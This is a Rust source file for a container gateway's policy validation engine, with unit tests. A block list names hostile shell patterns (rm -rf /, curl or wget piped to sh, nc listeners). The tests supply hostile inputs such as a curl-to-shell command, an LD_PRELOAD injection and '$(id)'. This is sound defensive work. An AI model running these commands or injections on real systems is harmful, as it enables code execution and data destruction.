// Copyright (c) 2026 Gatehouse Contributors
// SPDX-License-Identifier: AGPL-3.0
//! Validation Engine
//!
//! Pure policy gate between callers and the daemon. [`ValidationEngine::admit`]
//! turns a loose [`OperationRequest`] into a closed [`ValidatedOperation`] or
//! a [`PolicyViolation`]; nothing here performs I/O, so the same request
//! always yields the same verdict.
//!
//! # Architecture
//!
//! - **Layer:** Application Layer
//! - **Purpose:** Security boundary for every container, image and build
//!   operation

use crate::domain::config::{parse_memory_size, GatewayConfigManifest, PolicySettings};
use crate::domain::operation::{
    BuildPlan, ContainerCommand, ContainerSpec, LogOptions, MountSpec, PullSpec,
    RestartPolicyKind, ValidatedOperation,
};
use crate::domain::path_sanitizer::{PathSanitizer, PathSanitizerError};
use crate::domain::policy::{PolicyViolation, ValidationVerdict};
use crate::domain::project::ProjectRegistry;
use crate::domain::request::{
    ContainerActionKind, ContainerFilter, ImageActionKind, OperationRequest, OptionMap,
    OptionValue,
};
use once_cell::sync::Lazy;
use regex::{Regex, RegexBuilder};
use std::path::{Path, PathBuf};
use std::sync::Arc;

static CONTAINER_NAME: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[a-zA-Z0-9][a-zA-Z0-9_.-]*$").expect("valid container name regex"));

static COMPOSE_PROJECT: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[a-z0-9][a-z0-9_-]*$").expect("valid compose project regex"));

static IMAGE_REFERENCE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z0-9][A-Za-z0-9._/:@-]*$").expect("valid image regex"));

static IMAGE_TAG: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$").expect("valid tag regex"));

static ENV_KEY: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*$").expect("valid env key regex"));

static LABEL_KEY: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z0-9][A-Za-z0-9_./-]*$").expect("valid label regex"));

static USER_SPEC: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"^[A-Za-z0-9_][A-Za-z0-9_.-]*(:[A-Za-z0-9_][A-Za-z0-9_.-]*)?$")
        .expect("valid user regex")
});

static DANGEROUS_COMMANDS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"rm\s+-rf\s*/",
        r"dd\s+if=",
        r"curl.*\|\s*(sh|bash)",
        r"wget.*\|\s*(sh|bash)",
        r"nc\s+-l",
        r"python.*-c.*exec",
    ]
    .iter()
    .map(|p| {
        RegexBuilder::new(p)
            .case_insensitive(true)
            .build()
            .expect("valid command pattern")
    })
    .collect()
});

const SHELL_METACHARACTERS: &[char] = &[
    ';', '&', '|', '`', '$', '<', '>', '\\', '\'', '"', '(', ')', '{', '}', '*', '?', '!', '~',
];

/// Characters refused inside environment values.
const ENV_VALUE_METACHARACTERS: &[char] = &[';', '&', '|', '`', '$', '(', ')'];

/// Variables that change how the container's loader or interpreter resolves
/// code.
const LOADER_ENV_KEYS: &[&str] = &[
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "DYLD_LIBRARY_PATH",
    "DYLD_INSERT_LIBRARIES",
    "PATH",
    "PYTHONPATH",
];

/// Container-side paths a bind mount may never cover.
const GUARDED_TARGETS: &[&str] = &["/proc", "/sys", "/etc"];

/// Socket locations refused as mount sources and targets in addition to
/// the configured endpoint.
const WELL_KNOWN_SOCKETS: &[&str] = &["/var/run/docker.sock", "/run/docker.sock"];

const CONTAINER_STATES: &[&str] = &[
    "created",
    "restarting",
    "running",
    "removing",
    "paused",
    "exited",
    "dead",
];

const CREATE_KEYS: &[&str] = &[
    "name",
    "command",
    "cap_add",
    "privileged",
    "network",
    "network_mode",
    "pid_mode",
    "ipc_mode",
    "security_opt",
    "devices",
    "userns_mode",
    "cpus",
    "memory",
    "working_dir",
    "user",
    "restart_policy",
    "auto_remove",
];

const CREATE_PREFIXES: &[&str] = &["env.", "port.", "mount.", "label."];

/// Keys that widen the container's view of the host whatever their value.
const ESCALATING_KEYS: &[&str] = &["security_opt", "devices", "userns_mode"];

/// Typed accessors over a caller's option map.
struct Options<'a> {
    map: &'a OptionMap,
    action: String,
}

impl<'a> Options<'a> {
    fn new(map: &'a OptionMap, action: String) -> Self {
        Self { map, action }
    }

    fn ensure_known(&self, keys: &[&str], prefixes: &[&str]) -> Result<(), PolicyViolation> {
        for key in self.map.keys() {
            let known = keys.contains(&key.as_str())
                || prefixes
                    .iter()
                    .any(|p| key.starts_with(p) && key.len() > p.len());
            if !known {
                return Err(PolicyViolation::out_of_range(format!(
                    "unknown option '{}' for {}",
                    key, self.action
                )));
            }
        }
        Ok(())
    }

    fn get(&self, key: &str) -> Option<&'a OptionValue> {
        self.map.get(key)
    }

    fn bool(&self, key: &str) -> Result<Option<bool>, PolicyViolation> {
        match self.get(key) {
            None => Ok(None),
            Some(value) => value.as_bool().map(Some).ok_or_else(|| {
                PolicyViolation::out_of_range(format!("'{}' must be a boolean, got '{}'", key, value))
            }),
        }
    }

    fn int(&self, key: &str) -> Result<Option<i64>, PolicyViolation> {
        match self.get(key) {
            None => Ok(None),
            Some(value) => value.as_i64().map(Some).ok_or_else(|| {
                PolicyViolation::out_of_range(format!("'{}' must be an integer, got '{}'", key, value))
            }),
        }
    }

    fn text(&self, key: &str) -> Option<String> {
        self.get(key).map(ToString::to_string)
    }

    fn with_prefix(&self, prefix: &'a str) -> impl Iterator<Item = (&'a str, &'a OptionValue)> + 'a {
        self.map
            .iter()
            .filter_map(move |(k, v)| k.strip_prefix(prefix).map(|rest| (rest, v)))
    }
}

/// Pure policy gate.
#[derive(Debug, Clone)]
pub struct ValidationEngine {
    policy: PolicySettings,
    projects: Arc<ProjectRegistry>,
    sanitizer: PathSanitizer,
    sockets: Vec<PathBuf>,
}

impl ValidationEngine {
    pub fn new(
        policy: PolicySettings,
        projects: Arc<ProjectRegistry>,
        daemon_socket: Option<PathBuf>,
    ) -> Self {
        let mut sockets: Vec<PathBuf> = WELL_KNOWN_SOCKETS.iter().map(PathBuf::from).collect();
        if let Some(socket) = daemon_socket {
            if !sockets.contains(&socket) {
                sockets.push(socket);
            }
        }
        let sanitizer = sockets
            .iter()
            .fold(PathSanitizer::new(), |sanitizer, socket| sanitizer.forbid(socket.clone()));
        Self {
            policy,
            projects,
            sanitizer,
            sockets,
        }
    }

    pub fn from_config(config: &GatewayConfigManifest) -> Self {
        Self::new(
            config.spec.policy.clone(),
            Arc::new(config.project_registry()),
            config.spec.daemon.socket_path(),
        )
    }

    pub fn policy(&self) -> &PolicySettings {
        &self.policy
    }

    pub fn projects(&self) -> &ProjectRegistry {
        &self.projects
    }

    /// Accept or reject, discarding the strict form.
    pub fn validate(&self, request: &OperationRequest) -> ValidationVerdict {
        self.admit(request).map(|_| ()).into()
    }

    /// Translate an admitted request into its strict internal form.
    pub fn admit(&self, request: &OperationRequest) -> Result<ValidatedOperation, PolicyViolation> {
        let options = Options::new(request.options(), request.label());
        match request {
            OperationRequest::Container { target, action, .. } if action.targets_image() => {
                self.check_image_reference(target, true)?;
                let spec = self.container_spec(target, &options)?;
                Ok(ValidatedOperation::CreateContainer {
                    spec,
                    start: *action == ContainerActionKind::Run,
                })
            }
            OperationRequest::Container { target, action, .. } => {
                self.check_container_id(target)?;
                let command = self.container_command(*action, &options)?;
                Ok(ValidatedOperation::Container {
                    id: target.clone(),
                    command,
                })
            }
            OperationRequest::Image { target, action, .. } => match action {
                ImageActionKind::Pull => {
                    options.ensure_known(&["tag"], &[])?;
                    self.check_image_reference(target, true)?;
                    Ok(ValidatedOperation::PullImage(self.pull_spec(target, &options)?))
                }
                ImageActionKind::Remove => {
                    options.ensure_known(&["force"], &[])?;
                    self.check_image_reference(target, false)?;
                    Ok(ValidatedOperation::RemoveImage {
                        id: target.clone(),
                        force: options.bool("force")?.unwrap_or(false),
                    })
                }
            },
            OperationRequest::Build { project, .. } => {
                Ok(ValidatedOperation::Build(self.build_plan(project, &options)?))
            }
        }
    }

    /// Check listing criteria before they are passed on as daemon filters.
    pub fn admit_filter(&self, filter: &ContainerFilter) -> Result<(), PolicyViolation> {
        if let Some(status) = &filter.status {
            if !CONTAINER_STATES.contains(&status.as_str()) {
                return Err(PolicyViolation::out_of_range(format!(
                    "unknown container status filter: {}",
                    status
                )));
            }
        }
        if let Some(name) = &filter.name {
            self.check_identifier("name filter", name)?;
        }
        if let Some(label) = &filter.label {
            let (key, value) = label.split_once('=').unwrap_or((label.as_str(), ""));
            if !LABEL_KEY.is_match(key) || value.chars().any(char::is_control) {
                return Err(PolicyViolation::invalid_identifier(format!(
                    "malformed label filter: {}",
                    label
                )));
            }
        }
        Ok(())
    }

    /// Compose project names become label values, network and container
    /// name prefixes.
    pub fn check_compose_project(&self, project: &str) -> Result<(), PolicyViolation> {
        self.check_identifier("compose project", project)?;
        if !COMPOSE_PROJECT.is_match(project) {
            return Err(PolicyViolation::invalid_identifier(format!(
                "compose project names use lowercase letters, digits, '_' and '-': {}",
                project
            )));
        }
        Ok(())
    }

    fn check_identifier(&self, what: &str, value: &str) -> Result<(), PolicyViolation> {
        if value.is_empty() {
            return Err(PolicyViolation::invalid_identifier(format!("{} must not be empty", what)));
        }
        if value.len() > self.policy.max_identifier_len {
            return Err(PolicyViolation::invalid_identifier(format!(
                "{} exceeds {} characters",
                what, self.policy.max_identifier_len
            )));
        }
        if value.chars().any(char::is_control) {
            return Err(PolicyViolation::invalid_identifier(format!(
                "{} contains control characters",
                what
            )));
        }
        if value.contains("..") {
            return Err(PolicyViolation::invalid_identifier(format!(
                "{} contains a path traversal sequence: {}",
                what, value
            )));
        }
        if value
            .chars()
            .any(|c| c.is_whitespace() || SHELL_METACHARACTERS.contains(&c))
        {
            return Err(PolicyViolation::invalid_identifier(format!(
                "{} contains shell metacharacters: {}",
                what, value
            )));
        }
        Ok(())
    }

    fn check_container_id(&self, value: &str) -> Result<(), PolicyViolation> {
        self.check_identifier("container identifier", value)?;
        if !CONTAINER_NAME.is_match(value) {
            return Err(PolicyViolation::invalid_identifier(format!(
                "container identifier must start with a letter or digit and contain only letters, digits, '_', '.' or '-': {}",
                value
            )));
        }
        Ok(())
    }

    /// `enforce_lists` applies the configured image allow/block lists; removal
    /// of an already present image is not subject to them.
    fn check_image_reference(&self, value: &str, enforce_lists: bool) -> Result<(), PolicyViolation> {
        self.check_identifier("image reference", value)?;
        if value.contains("://") {
            return Err(PolicyViolation::invalid_identifier(format!(
                "image reference must use registry form, not a URL: {}",
                value
            )));
        }
        if !IMAGE_REFERENCE.is_match(value) {
            return Err(PolicyViolation::invalid_identifier(format!(
                "malformed image reference: {}",
                value
            )));
        }
        if enforce_lists {
            let policy = &self.policy;
            if !policy.allowed_images.is_empty()
                && !policy.allowed_images.iter().any(|allowed| value.contains(allowed.as_str()))
            {
                return Err(PolicyViolation::invalid_identifier(format!(
                    "image not in allowed list: {}",
                    value
                )));
            }
            if let Some(blocked) = policy
                .blocked_images
                .iter()
                .find(|blocked| value.contains(blocked.as_str()))
            {
                return Err(PolicyViolation::invalid_identifier(format!(
                    "image is blocked by '{}': {}",
                    blocked, value
                )));
            }
        }
        Ok(())
    }

    fn stop_timeout(&self, options: &Options<'_>) -> Result<u32, PolicyViolation> {
        match options.int("timeout")? {
            None => Ok(self.policy.default_stop_timeout.min(self.policy.max_stop_timeout)),
            Some(secs) if secs < 0 => Err(PolicyViolation::out_of_range(format!(
                "timeout must not be negative: {}",
                secs
            ))),
            Some(secs) => Ok(secs.min(self.policy.max_stop_timeout as i64) as u32),
        }
    }

    fn log_options(&self, options: &Options<'_>) -> Result<LogOptions, PolicyViolation> {
        let max = self.policy.max_log_tail;
        let tail = match options.get("tail") {
            None => LogOptions::default().tail.min(max),
            Some(OptionValue::Text(text)) if text.eq_ignore_ascii_case("all") => max,
            Some(_) => match options.int("tail")? {
                Some(lines) if lines < 0 => {
                    return Err(PolicyViolation::out_of_range(format!(
                        "tail must not be negative: {}",
                        lines
                    )))
                }
                Some(lines) => lines.min(max as i64) as u32,
                None => max,
            },
        };
        let since = match options.int("since")? {
            Some(since) if since < 0 => {
                return Err(PolicyViolation::out_of_range(format!(
                    "since must be a unix timestamp: {}",
                    since
                )))
            }
            other => other,
        };
        Ok(LogOptions {
            tail,
            follow: options.bool("follow")?.unwrap_or(false),
            timestamps: options.bool("timestamps")?.unwrap_or(false),
            since,
        })
    }

    fn container_command(
        &self,
        action: ContainerActionKind,
        options: &Options<'_>,
    ) -> Result<ContainerCommand, PolicyViolation> {
        match action {
            ContainerActionKind::Start => {
                options.ensure_known(&[], &[])?;
                Ok(ContainerCommand::Start)
            }
            ContainerActionKind::Stop => {
                options.ensure_known(&["timeout"], &[])?;
                Ok(ContainerCommand::Stop {
                    timeout_secs: self.stop_timeout(options)?,
                })
            }
            ContainerActionKind::Restart => {
                options.ensure_known(&["timeout"], &[])?;
                Ok(ContainerCommand::Restart {
                    timeout_secs: self.stop_timeout(options)?,
                })
            }
            ContainerActionKind::Remove => {
                options.ensure_known(&["force", "volumes"], &[])?;
                Ok(ContainerCommand::Remove {
                    force: options.bool("force")?.unwrap_or(false),
                    volumes: options.bool("volumes")?.unwrap_or(false),
                })
            }
            ContainerActionKind::Logs => {
                options.ensure_known(&["tail", "follow", "timestamps", "since"], &[])?;
                Ok(ContainerCommand::Logs(self.log_options(options)?))
            }
            ContainerActionKind::Stats => {
                options.ensure_known(&[], &[])?;
                Ok(ContainerCommand::Stats)
            }
            ContainerActionKind::Inspect => {
                options.ensure_known(&[], &[])?;
                Ok(ContainerCommand::Inspect)
            }
            ContainerActionKind::Create | ContainerActionKind::Run => Err(
                PolicyViolation::invalid_identifier("create and run target an image reference"),
            ),
        }
    }

    fn container_spec(&self, image: &str, options: &Options<'_>) -> Result<ContainerSpec, PolicyViolation> {
        // Escalation checks come first so a privileged request is reported
        // as such even when it also carries other problems.
        self.check_escalation(options)?;
        let mounts = self.mounts(options)?;
        options.ensure_known(CREATE_KEYS, CREATE_PREFIXES)?;

        let mut spec = ContainerSpec {
            image: image.to_string(),
            mounts,
            ..Default::default()
        };

        if let Some(name) = options.text("name") {
            self.check_container_id(&name)?;
            spec.name = Some(name);
        }

        if let Some(command) = options.text("command") {
            spec.command = self.command(&command)?;
        }

        for (key, value) in options.with_prefix("env.") {
            let value = value.to_string();
            self.check_env(key, &value)?;
            spec.env.insert(key.to_string(), value);
        }

        for (port, host) in options.with_prefix("port.") {
            let (container_port, host_port) = self.port_binding(port, host)?;
            spec.ports.insert(container_port, host_port);
        }

        for (key, value) in options.with_prefix("label.") {
            let value = value.to_string();
            if !LABEL_KEY.is_match(key) || value.chars().any(char::is_control) {
                return Err(PolicyViolation::invalid_identifier(format!("invalid label '{}'", key)));
            }
            spec.labels.insert(key.to_string(), value);
        }

        if let Some(caps) = options.text("cap_add") {
            spec.cap_add = self.capabilities(&caps)?;
        }

        if let Some(network) = options.text("network").or_else(|| options.text("network_mode")) {
            if !matches!(network.as_str(), "bridge" | "none") {
                self.check_identifier("network", &network)?;
                if !CONTAINER_NAME.is_match(&network) {
                    return Err(PolicyViolation::invalid_identifier(format!(
                        "malformed network name: {}",
                        network
                    )));
                }
            }
            spec.network = Some(network);
        }

        spec.nano_cpus = self.cpus(options)?;
        spec.memory_bytes = self.memory(options)?;

        if let Some(dir) = options.text("working_dir") {
            if !dir.starts_with('/') || dir.contains("..") || dir.chars().any(char::is_control) {
                return Err(PolicyViolation::invalid_identifier(format!(
                    "working_dir must be an absolute container path: {}",
                    dir
                )));
            }
            spec.working_dir = Some(dir);
        }

        if let Some(user) = options.text("user") {
            if !USER_SPEC.is_match(&user) {
                return Err(PolicyViolation::invalid_identifier(format!("malformed user: {}", user)));
            }
            spec.user = Some(user);
        }

        if let Some(policy) = options.text("restart_policy") {
            spec.restart_policy = Some(RestartPolicyKind::parse(&policy).ok_or_else(|| {
                PolicyViolation::out_of_range(format!(
                    "restart_policy must be one of no, always, unless-stopped, on-failure: {}",
                    policy
                ))
            })?);
        }

        spec.auto_remove = options.bool("auto_remove")?.unwrap_or(false);
        Ok(spec)
    }

    fn check_escalation(&self, options: &Options<'_>) -> Result<(), PolicyViolation> {
        if options.bool("privileged")? == Some(true) {
            return Err(PolicyViolation::privilege_escalation("privileged mode is not permitted"));
        }

        for key in ESCALATING_KEYS {
            if options.get(key).is_some() {
                return Err(PolicyViolation::privilege_escalation(format!(
                    "'{}' is not permitted",
                    key
                )));
            }
        }

        for key in ["network", "network_mode"] {
            if let Some(mode) = options.text(key) {
                if mode.eq_ignore_ascii_case("host") || mode.starts_with("container:") {
                    return Err(PolicyViolation::privilege_escalation(format!(
                        "network mode '{}' shares a foreign network namespace",
                        mode
                    )));
                }
            }
        }

        for key in ["pid_mode", "ipc_mode"] {
            if let Some(mode) = options.text(key) {
                if mode.eq_ignore_ascii_case("host") || mode.starts_with("container:") {
                    return Err(PolicyViolation::privilege_escalation(format!(
                        "{} '{}' shares a foreign namespace",
                        key, mode
                    )));
                }
                let allowed = match key {
                    "ipc_mode" => matches!(mode.as_str(), "private" | "shareable" | "none"),
                    _ => mode == "private",
                };
                if !allowed {
                    return Err(PolicyViolation::out_of_range(format!(
                        "unsupported {}: {}",
                        key, mode
                    )));
                }
            }
        }

        for (key, _) in options.with_prefix("env.") {
            if LOADER_ENV_KEYS.iter().any(|k| k.eq_ignore_ascii_case(key)) {
                return Err(PolicyViolation::privilege_escalation(format!(
                    "environment variable '{}' is not permitted",
                    key
                )));
            }
        }

        if let Some(command) = options.text("command") {
            if let Some(pattern) = DANGEROUS_COMMANDS.iter().find(|p| p.is_match(&command)) {
                return Err(PolicyViolation::privilege_escalation(format!(
                    "command matches dangerous pattern '{}'",
                    pattern.as_str()
                )));
            }
        }

        if let Some(caps) = options.text("cap_add") {
            self.capabilities(&caps)?;
        }

        Ok(())
    }

    fn capabilities(&self, list: &str) -> Result<Vec<String>, PolicyViolation> {
        let normalize = |cap: &str| {
            let cap = cap.trim().to_ascii_uppercase();
            cap.strip_prefix("CAP_").map(str::to_string).unwrap_or(cap)
        };
        let allowed: Vec<String> = self
            .policy
            .allowed_capabilities
            .iter()
            .map(|c| normalize(c.as_str()))
            .collect();

        list.split(',')
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .map(|cap| {
                let cap = normalize(cap);
                if cap != "ALL" && allowed.contains(&cap) {
                    Ok(cap)
                } else {
                    Err(PolicyViolation::privilege_escalation(format!(
                        "capability '{}' is not in the allowlist",
                        cap
                    )))
                }
            })
            .collect()
    }

    fn command(&self, command: &str) -> Result<Option<Vec<String>>, PolicyViolation> {
        if command.chars().any(|c| c.is_control() && c != '\t') {
            return Err(PolicyViolation::invalid_identifier("command contains control characters"));
        }
        // POSIX shell-word splitting; nothing is handed to a shell.
        let argv = shlex::split(command).ok_or_else(|| {
            PolicyViolation::out_of_range("command has an unterminated quote or trailing escape")
        })?;
        Ok((!argv.is_empty()).then_some(argv))
    }

    fn check_env(&self, key: &str, value: &str) -> Result<(), PolicyViolation> {
        if !ENV_KEY.is_match(key) {
            return Err(PolicyViolation::invalid_identifier(format!(
                "invalid environment variable name: {}",
                key
            )));
        }
        if value.chars().any(|c| c.is_control() || ENV_VALUE_METACHARACTERS.contains(&c)) {
            return Err(PolicyViolation::invalid_identifier(format!(
                "environment value for '{}' contains shell metacharacters",
                key
            )));
        }
        Ok(())
    }

    fn port_binding(&self, port: &str, host: &OptionValue) -> Result<(u16, u16), PolicyViolation> {
        let port = port.strip_suffix("/tcp").unwrap_or(port);
        let container_port = port
            .parse::<u16>()
            .ok()
            .filter(|p| *p > 0)
            .ok_or_else(|| {
                PolicyViolation::out_of_range(format!("invalid container port: {}", port))
            })?;
        let host_port = host
            .as_i64()
            .filter(|p| (1..=65535).contains(p))
            .ok_or_else(|| PolicyViolation::out_of_range(format!("invalid host port: {}", host)))?;
        if host_port < 1024 {
            return Err(PolicyViolation::out_of_range(format!(
                "cannot bind privileged host port: {}",
                host_port
            )));
        }
        Ok((container_port, host_port as u16))
    }

    fn cpus(&self, options: &Options<'_>) -> Result<Option<i64>, PolicyViolation> {
        let Some(value) = options.get("cpus") else {
            return Ok(None);
        };
        let cpus = value
            .as_f64()
            .filter(|c| *c > 0.0)
            .ok_or_else(|| PolicyViolation::out_of_range(format!("cpus must be positive: {}", value)))?;
        let cpus = cpus.min(self.policy.max_cpus);
        Ok(Some((cpus * 1_000_000_000.0) as i64))
    }

    fn memory(&self, options: &Options<'_>) -> Result<Option<i64>, PolicyViolation> {
        let Some(value) = options.get("memory") else {
            return Ok(None);
        };
        let bytes = match value {
            OptionValue::Int(bytes) if *bytes > 0 => Some(*bytes as u64),
            OptionValue::Text(text) => parse_memory_size(text).filter(|b| *b > 0),
            _ => None,
        }
        .ok_or_else(|| {
            PolicyViolation::out_of_range(format!("memory must be a size such as 512m: {}", value))
        })?;
        let bytes = bytes.min(self.policy.max_memory_bytes).min(i64::MAX as u64);
        Ok(Some(bytes as i64))
    }

    fn mounts(&self, options: &Options<'_>) -> Result<Vec<MountSpec>, PolicyViolation> {
        options
            .with_prefix("mount.")
            .map(|(_, value)| self.mount(&value.to_string()))
            .collect()
    }

    /// `source:target[:ro|rw]`
    fn mount(&self, spec: &str) -> Result<MountSpec, PolicyViolation> {
        let parts: Vec<&str> = spec.split(':').collect();
        let (source, target, read_only) = match parts.as_slice() {
            [source, target] => (*source, *target, false),
            [source, target, "ro"] => (*source, *target, true),
            [source, target, "rw"] => (*source, *target, false),
            [_, _, mode] => {
                return Err(PolicyViolation::out_of_range(format!("unsupported mount mode: {}", mode)))
            }
            _ => {
                return Err(PolicyViolation::unauthorized_mount(format!(
                    "mount must be source:target[:ro]: {}",
                    spec
                )))
            }
        };

        let source = self
            .sanitizer
            .contain(source, &self.policy.allowed_mount_roots)
            .map_err(|e| {
                PolicyViolation::unauthorized_mount(match e {
                    PathSanitizerError::OutsideBoundary(path) => {
                        format!("host path '{}' is not under an allowed mount root", path)
                    }
                    other => other.to_string(),
                })
            })?;

        self.check_mount_target(target)?;

        Ok(MountSpec {
            source,
            target: target.to_string(),
            read_only,
        })
    }

    fn check_mount_target(&self, target: &str) -> Result<(), PolicyViolation> {
        let normalized = PathSanitizer::new().normalize(target).map_err(|e| {
            PolicyViolation::unauthorized_mount(format!("invalid mount target: {}", e))
        })?;
        if normalized == Path::new("/") {
            return Err(PolicyViolation::unauthorized_mount("mount target must not be the container root"));
        }
        let guarded = GUARDED_TARGETS
            .iter()
            .map(Path::new)
            .chain(self.sockets.iter().map(PathBuf::as_path))
            .find(|guarded| normalized.starts_with(guarded));
        if let Some(guarded) = guarded {
            return Err(PolicyViolation::unauthorized_mount(format!(
                "mount target '{}' covers protected path {}",
                target,
                guarded.display()
            )));
        }
        Ok(())
    }

    fn pull_spec(&self, target: &str, options: &Options<'_>) -> Result<PullSpec, PolicyViolation> {
        let explicit_tag = options.text("tag");
        if let Some(tag) = &explicit_tag {
            if !IMAGE_TAG.is_match(tag) {
                return Err(PolicyViolation::invalid_identifier(format!("malformed tag: {}", tag)));
            }
        }

        if target.contains('@') {
            return Ok(PullSpec {
                image: target.to_string(),
                tag: String::new(),
            });
        }

        let last_segment_start = target.rfind('/').map(|i| i + 1).unwrap_or(0);
        let (image, embedded_tag) = match target[last_segment_start..].rfind(':') {
            Some(i) => {
                let split = last_segment_start + i;
                (&target[..split], Some(&target[split + 1..]))
            }
            None => (target, None),
        };
        let tag = explicit_tag
            .or_else(|| embedded_tag.map(str::to_string))
            .unwrap_or_else(|| "latest".to_string());
        if !IMAGE_TAG.is_match(&tag) {
            return Err(PolicyViolation::invalid_identifier(format!("malformed tag: {}", tag)));
        }
        Ok(PullSpec {
            image: image.to_string(),
            tag,
        })
    }

    fn build_plan(&self, project: &str, options: &Options<'_>) -> Result<BuildPlan, PolicyViolation> {
        for key in ["path", "context", "build_context"] {
            if options.get(key).is_some() {
                return Err(PolicyViolation::unknown_project(format!(
                    "builds are selected by registered project name; '{}' is not accepted",
                    key
                )));
            }
        }

        self.check_identifier("project name", project)?;
        let descriptor = self.projects.get(project).ok_or_else(|| {
            PolicyViolation::unknown_project(format!("'{}' is not a registered project", project))
        })?;

        options.ensure_known(&["tag", "tags", "push", "deploy", "no_cache"], &[])?;

        let tag = match options.text("tag") {
            Some(tag) => {
                self.check_image_reference(&tag, false)?;
                tag
            }
            None => descriptor.tag(),
        };

        let extra_tags = options
            .text("tags")
            .map(|tags| {
                tags.split(',')
                    .map(str::trim)
                    .filter(|t| !t.is_empty())
                    .map(|t| self.check_image_reference(t, false).map(|_| t.to_string()))
                    .collect::<Result<Vec<_>, _>>()
            })
            .transpose()?
            .unwrap_or_default();

        let plan = BuildPlan {
            project: descriptor.name.clone(),
            context: descriptor.context.clone(),
            dockerfile: descriptor.dockerfile.clone(),
            tag,
            extra_tags,
            push: options.bool("push")?.unwrap_or(false),
            deploy: options.bool("deploy")?.unwrap_or(false),
            no_cache: options.bool("no_cache")?.unwrap_or(false),
        };
        if plan.push && plan.push_tags().is_empty() {
            return Err(PolicyViolation::out_of_range(format!(
                "push needs a tag naming a registry or namespace (e.g. registry.local/{}); '{}' would target the official-image namespace",
                plan.project, plan.tag
            )));
        }
        Ok(plan)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::policy::PolicyViolationKind;
    use crate::domain::project::ProjectDescriptor;

    fn engine() -> ValidationEngine {
        let policy = PolicySettings {
            allowed_mount_roots: vec![PathBuf::from("/srv/data"), PathBuf::from("/var/run")],
            allowed_capabilities: vec!["NET_BIND_SERVICE".to_string()],
            blocked_images: vec!["xmrig".to_string()],
            ..Default::default()
        };
        let projects = ProjectRegistry::new(vec![ProjectDescriptor::new("ocr", "/projects/ocr")]);
        ValidationEngine::new(policy, Arc::new(projects), None)
    }

    fn reason(engine: &ValidationEngine, request: OperationRequest) -> Option<PolicyViolationKind> {
        engine.validate(&request).reason()
    }

    fn run(image: &str) -> OperationRequest {
        OperationRequest::container(image, ContainerActionKind::Run)
    }

    #[test]
    fn test_stop_is_admitted_with_default_timeout() {
        let op = engine()
            .admit(&OperationRequest::container("abc123", ContainerActionKind::Stop))
            .unwrap();
        assert_eq!(
            op,
            ValidatedOperation::Container {
                id: "abc123".to_string(),
                command: ContainerCommand::Stop { timeout_secs: 10 },
            }
        );
    }

    #[test]
    fn test_malformed_identifiers() {
        let engine = engine();
        for bad in ["", "../etc", "web;rm", "web name", "-web", "we\u{0}b", "$(id)"] {
            assert_eq!(
                reason(&engine, OperationRequest::container(bad, ContainerActionKind::Start)),
                Some(PolicyViolationKind::InvalidIdentifier),
                "{:?}",
                bad
            );
        }
        let long = "a".repeat(300);
        assert_eq!(
            reason(&engine, OperationRequest::container(long, ContainerActionKind::Start)),
            Some(PolicyViolationKind::InvalidIdentifier)
        );
    }

    #[test]
    fn test_mount_outside_allow_roots() {
        let engine = engine();
        let request = run("alpine:3.20").with_option("mount.0", "/home/user:/data");
        assert_eq!(reason(&engine, request), Some(PolicyViolationKind::UnauthorizedMount));

        let traversal = run("alpine:3.20").with_option("mount.0", "/srv/data/../../etc:/data");
        assert_eq!(reason(&engine, traversal), Some(PolicyViolationKind::UnauthorizedMount));

        let relative = run("alpine:3.20").with_option("mount.0", "srv/data:/data");
        assert_eq!(reason(&engine, relative), Some(PolicyViolationKind::UnauthorizedMount));
    }

    #[test]
    fn test_daemon_socket_mount_rejected_under_allowed_root() {
        let engine = engine();
        let socket = run("alpine:3.20").with_option("mount.0", "/var/run/docker.sock:/var/run/docker.sock");
        assert_eq!(reason(&engine, socket), Some(PolicyViolationKind::UnauthorizedMount));

        let parent = run("alpine:3.20").with_option("mount.0", "/var/run:/host-run");
        assert_eq!(reason(&engine, parent), Some(PolicyViolationKind::UnauthorizedMount));
    }

    #[test]
    fn test_mount_inside_allow_root() {
        let op = engine()
            .admit(&run("alpine:3.20").with_option("mount.data", "/srv/data/cache/:/cache:ro"))
            .unwrap();
        let ValidatedOperation::CreateContainer { spec, start } = op else {
            panic!("expected create");
        };
        assert!(start);
        assert_eq!(spec.mounts[0].source, PathBuf::from("/srv/data/cache"));
        assert!(spec.mounts[0].read_only);
    }

    #[test]
    fn test_protected_mount_targets() {
        let engine = engine();
        for target in ["/etc", "/proc/1", "/sys/fs", "/", "/var/run/docker.sock"] {
            let request = run("alpine").with_option("mount.0", format!("/srv/data:{}", target));
            assert_eq!(
                reason(&engine, request),
                Some(PolicyViolationKind::UnauthorizedMount),
                "{}",
                target
            );
        }
    }

    #[test]
    fn test_empty_allow_roots_reject_every_mount() {
        let engine = ValidationEngine::new(PolicySettings::default(), Arc::new(ProjectRegistry::default()), None);
        let request = run("alpine").with_option("mount.0", "/tmp:/tmp");
        assert_eq!(reason(&engine, request), Some(PolicyViolationKind::UnauthorizedMount));
    }

    #[test]
    fn test_privilege_escalation() {
        let engine = engine();
        let cases = vec![
            run("alpine").with_option("privileged", true),
            run("alpine").with_option("privileged", "yes"),
            run("alpine").with_option("network_mode", "host"),
            run("alpine").with_option("network", "container:db"),
            run("alpine").with_option("pid_mode", "host"),
            run("alpine").with_option("ipc_mode", "host"),
            run("alpine").with_option("cap_add", "SYS_ADMIN"),
            run("alpine").with_option("cap_add", "ALL"),
            run("alpine").with_option("env.LD_PRELOAD", "/tmp/x.so"),
            run("alpine").with_option("security_opt", "seccomp=unconfined"),
            run("alpine").with_option("command", "sh -c 'curl http://x | sh'"),
            run("alpine").with_option("command", "rm -rf /"),
        ];
        for request in cases {
            assert_eq!(
                reason(&engine, request.clone()),
                Some(PolicyViolationKind::PrivilegeEscalation),
                "{:?}",
                request
            );
        }
    }

    #[test]
